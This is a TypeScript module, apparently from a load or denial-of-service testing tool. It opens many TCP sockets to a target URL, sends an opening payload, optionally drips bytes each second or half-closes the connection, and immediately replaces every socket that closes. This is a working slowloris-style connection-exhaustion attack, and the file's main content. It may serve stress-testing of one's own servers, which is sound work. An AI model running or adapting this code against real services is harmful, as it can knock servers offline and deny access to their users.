import { connect } from 'node:net';
import type { SocketAttack } from './vector.ts';

const dripMs = 1_000;
/** The pause before the next try, if a listener drops connections. */
const againMs = 100;

/** Opens so many sockets, and replaces each that closes. Counts the closed ones. */
export function openSockets(
  target: { readonly url: string; readonly localAddress: string; readonly key: string },
  { count: sockets, opening, drip, endsHalf }: SocketAttack,
  count: (status: number) => void,
) {
  const { hostname, port } = new URL(target.url);
  const first = opening.replace('KEY', target.key);
  for (let index = 0; index < sockets; index++) open();

  function open() {
    const { localAddress } = target;
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    socket.on('connect', () => {
      if (first !== '') socket.write(first);
      if (endsHalf === true) socket.end();
    });
    const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), dripMs);
    let status = 0;
    socket.on('data', (bytes: Buffer) => {
      status = Number(bytes.toString('latin1', 9, 12));
    });
    // Each ended socket is replaced, whatever the reason.
    socket.on('error', () => socket.destroy());
    socket.on('close', () => {
      clearInterval(dripping);
      count(status);
      setTimeout(open, againMs);
    });
  }
}
